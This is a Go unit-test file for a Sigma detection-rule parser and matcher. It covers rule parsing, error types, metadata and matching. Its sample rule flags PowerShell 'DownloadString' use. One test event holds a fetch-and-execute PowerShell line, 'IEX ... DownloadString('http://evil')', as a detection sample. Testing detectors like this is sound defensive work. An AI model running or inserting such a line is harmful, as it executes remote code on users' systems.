package sigma

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const basicRule = `
title: Suspicious PowerShell Download
id: 11111111-1111-1111-1111-111111111111
status: stable
level: high
author: test
tags:
  - attack.execution
logsource:
  product: windows
  category: process_creation
detection:
  selection:
    CommandLine|contains: 'DownloadString'
    Image|endswith: '\powershell.exe'
  condition: selection
`

func TestRuleFromYAMLBasic(t *testing.T) {
	r, err := RuleFromYAML([]byte(basicRule))
	require.NoError(t, err)
	require.NotNil(t, r)

	assert.Equal(t, "Suspicious PowerShell Download", r.Title())
	assert.Equal(t, "11111111-1111-1111-1111-111111111111", r.ID())
	assert.Equal(t, "high", r.Level())
	assert.Equal(t, []string{"attack.execution"}, r.Tags())
	assert.Equal(t, "windows", r.Logsource().Product)
	assert.Equal(t, "process_creation", r.Logsource().Category)

	match := EventFromMap(map[string]interface{}{
		"CommandLine": "IEX (New-Object Net.WebClient).DownloadString('http://evil')",
		"Image":       `C:\Windows\System32\powershell.exe`,
	})
	assert.True(t, r.IsMatch(match))

	noMatch := EventFromMap(map[string]interface{}{
		"CommandLine": "dir",
		"Image":       `C:\Windows\System32\cmd.exe`,
	})
	assert.False(t, r.IsMatch(noMatch))
}

func TestRuleFromYAMLMissingTitle(t *testing.T) {
	_, err := RuleFromYAML([]byte(`
detection:
  selection:
    Image: foo
  condition: selection
`))
	require.Error(t, err)
	assert.IsType(t, ErrMissingField{}, err)
}

func TestRuleFromYAMLReservedSelectionName(t *testing.T) {
	_, err := RuleFromYAML([]byte(`
title: bad
detection:
  condition:
    Image: foo
  timeframe: 1h
`))
	require.Error(t, err)
}

func TestEventFromJSONMatchesYAMLRule(t *testing.T) {
	r, err := RuleFromYAML([]byte(basicRule))
	require.NoError(t, err)

	ev, err := EventFromJSON([]byte(`{"CommandLine": "DownloadString here", "Image": "c:\\powershell.exe"}`))
	require.NoError(t, err)
	assert.True(t, r.IsMatch(ev))
}

func TestExtractConditionTextListForm(t *testing.T) {
	r, err := RuleFromYAML([]byte(`
title: list condition
detection:
  sel1:
    a: 1
  sel2:
    b: 2
  condition:
    - sel1
    - sel2
`))
	require.NoError(t, err)

	matches1 := EventFromMap(map[string]interface{}{"a": int64(1)})
	matches2 := EventFromMap(map[string]interface{}{"b": int64(2)})
	neither := EventFromMap(map[string]interface{}{"c": int64(3)})

	assert.True(t, r.IsMatch(matches1))
	assert.True(t, r.IsMatch(matches2))
	assert.False(t, r.IsMatch(neither))
}

func TestRuleFromYAMLBareGlobConditionRejected(t *testing.T) {
	_, err := RuleFromYAML([]byte(`
title: bare glob condition
detection:
  selection_a:
    a: 1
  selection_b:
    b: 2
  condition: selection_*
`))
	require.Error(t, err)
	assert.IsType(t, ErrBareGlobIdentifier{}, err)
}

func TestRuleFromYAMLModifierErrorsConvertToTypedErrors(t *testing.T) {
	cases := []struct {
		name string
		yaml string
		want interface{}
	}{
		{
			"unknown modifier",
			`
title: bad
detection:
  selection:
    Image|bogus: foo
  condition: selection
`,
			ErrUnknownModifier{},
		},
		{
			"incompatible match kinds",
			`
title: bad
detection:
  selection:
    Image|contains|startswith: foo
  condition: selection
`,
			ErrIncompatibleModifiers{},
		},
		{
			"all over a scalar needle",
			`
title: bad
detection:
  selection:
    Image|contains|all: foo
  condition: selection
`,
			ErrRequiresListNeedle{},
		},
		{
			"invalid regex",
			`
title: bad
detection:
  selection:
    Image|re: "(unclosed"
  condition: selection
`,
			ErrInvalidRegex{},
		},
		{
			"invalid cidr",
			`
title: bad
detection:
  selection:
    src|cidr: "not-a-cidr"
  condition: selection
`,
			ErrInvalidCidr{},
		},
		{
			"type mismatch on numeric comparator",
			`
title: bad
detection:
  selection:
    count|gt: "not-a-number"
  condition: selection
`,
			ErrTypeMismatch{},
		},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := RuleFromYAML([]byte(c.yaml))
			require.Error(t, err)
			assert.IsType(t, c.want, err)
		})
	}
}

func TestRuleMetadataSupplementalFields(t *testing.T) {
	r, err := RuleFromYAML([]byte(`
title: full metadata
id: 22222222-2222-2222-2222-222222222222
name: short-name
status: experimental
description: a test rule
author: jane
references:
  - https://example.com/a
date: 2021/01/01
modified: 2021/02/02
related:
  - 33333333-3333-3333-3333-333333333333
falsepositives:
  - admin activity
detection:
  selection:
    a: 1
  condition: selection
`))
	require.NoError(t, err)
	assert.Equal(t, "short-name", r.Name())
	assert.Equal(t, "experimental", r.Status())
	assert.Equal(t, "a test rule", r.Description())
	assert.Equal(t, "jane", r.Author())
	assert.Equal(t, []string{"https://example.com/a"}, r.References())
	assert.Equal(t, "2021/01/01", r.Date())
	assert.Equal(t, "2021/02/02", r.Modified())
	assert.Equal(t, []string{"33333333-3333-3333-3333-333333333333"}, r.Related())
	assert.Equal(t, []string{"admin activity"}, r.FalsePositives())
}
